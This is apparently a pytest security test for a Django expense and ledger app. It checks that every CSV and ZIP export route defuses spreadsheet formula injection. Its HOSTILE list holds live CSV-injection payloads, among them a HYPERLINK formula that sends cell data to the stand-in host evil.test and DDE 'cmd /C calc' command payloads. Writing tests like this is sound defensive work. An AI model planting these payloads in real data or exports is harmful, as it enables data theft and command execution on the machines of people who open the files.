"""Every CSV the product writes neutralises spreadsheet formulas (OWASP's CSV injection rule),
checked over every export route the URL conf has: a new one without an entry here fails."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest

from config.csv_export import safe_cell
from ledger.finance import actions as finance
from social import actions as social
from tests.helpers import client_for
from tests.security.routes import all_paths

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&D2,"Dinner")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _group_export(alice, bob) -> tuple[str, list[str]]:
    social.update_account(bob, changes={"name": HOSTILE[2]})
    social.befriend(alice, other=bob)
    group = social.create_group(alice, name=HOSTILE[3], currency="INR", members=[bob.pk])
    amount = Decimal("30.00")
    social.record_expense(
        alice, group=group, description=HOSTILE[0], amount=amount, currency="INR", date="2026-11-21",
        paid_by=[{"user": alice.pk, "amount": amount}], split={"method": "equal", "between": [alice.pk, bob.pk]},
    )
    social.record_settlement(bob, group=group, payer_id=bob.pk, payee_id=alice.pk, amount=Decimal("5.00"),
                             currency="INR", note=HOSTILE[1])
    return f"/api/groups/{group.pk}/export.csv", HOSTILE[:3]


def _finance_export(alice, bob) -> tuple[str, list[str]]:
    finance.ensure_finance(alice)
    account = finance.create_account(alice, name=HOSTILE[0], kind="bank", currency="INR",
                                     opening_balance=Decimal("10.00"))
    for text in HOSTILE[1:]:
        finance.record_transaction(alice, account_id=account.id, direction="expense", amount=Decimal("1.00"),
                                   date=date(2026, 1, 1), payee=text, notes=text)
    return "/api/finance/transactions/export.csv", HOSTILE


# route name -> builder (seeds hostile text for alice; returns the URL and the texts the file must
# hold, defused), or None: not a CSV.
def _personal_export(alice, bob) -> tuple[str, list[str]]:
    _group_export(alice, bob)  # alice's own expense description and settlement note
    return "/api/me/export", HOSTILE[:2]


def _finance_archive(alice, bob) -> tuple[str, list[str]]:
    _finance_export(alice, bob)  # the same hostile account name, payees and notes, in the ZIP's CSVs
    return "/api/finance/export", HOSTILE


def _khata_archive(alice, bob) -> tuple[str, list[str]]:
    from ledger.khata import actions as khata

    business = khata.create_business(alice, name=HOSTILE[0])
    party = khata.create_party(alice, business=business, kind="customer", name=HOSTILE[1])
    for text in HOSTILE[2:]:
        khata.record_entry(alice, business=business, party_id=party.id, kind="gave", amount=Decimal("1.00"),
                           note=text)
    return f"/api/khata/businesses/{business.id}/export.zip", HOSTILE


EXPORTS = {
    "group-export-csv": _group_export,
    "group-export-json": None,
    "finance-export": _finance_export,
    "finance-export-all": _finance_archive,  # a ZIP: JSON and one CSV per kind
    "me-export": _personal_export,  # a ZIP: every CSV in it is checked
    "khata-export": None,  # the business as one JSON document
    "khata-export-zip": _khata_archive,  # a ZIP: the document and one CSV per table
    "khata-export-zip-page": None,  # the page's button: the same ZIP (ledger.khata.portable.zip_of)
}


def _csv_texts(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if not response["Content-Type"].startswith("application/zip"):
        return [body.decode("utf-8-sig")]
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        names = [n for n in archive.namelist() if n.endswith(".csv")]
        assert names, archive.namelist()
        return [archive.read(n).decode("utf-8-sig") for n in names]


def _export_routes() -> set[str]:
    return {name for name, path in all_paths().items() if "export" in path or "export" in name}


def test_every_export_route_is_listed_here():
    assert _export_routes() == set(EXPORTS), "a new export route: add it to EXPORTS"


@pytest.mark.parametrize("name", sorted(name for name, build in EXPORTS.items() if build))
def test_no_cell_of_any_csv_export_can_run_as_a_formula(name, alice, bob):
    url, texts = EXPORTS[name](alice, bob)
    response = client_for(alice).get(url)
    assert response.status_code == 200, response.content[:300]
    cells = [cell for text in _csv_texts(response) for row in csv.reader(io.StringIO(text)) for cell in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and safe_cell(c) != c]
    assert risky == []
    for text in texts:  # each hostile text is there, defused
        assert "'" + text in cells, (text, cells)


def test_plain_negative_amounts_stay_numbers():
    assert safe_cell("-12.50") == "-12.50"
    assert safe_cell("-1e3") == "'-1e3"
    assert safe_cell("=1") == "'=1"
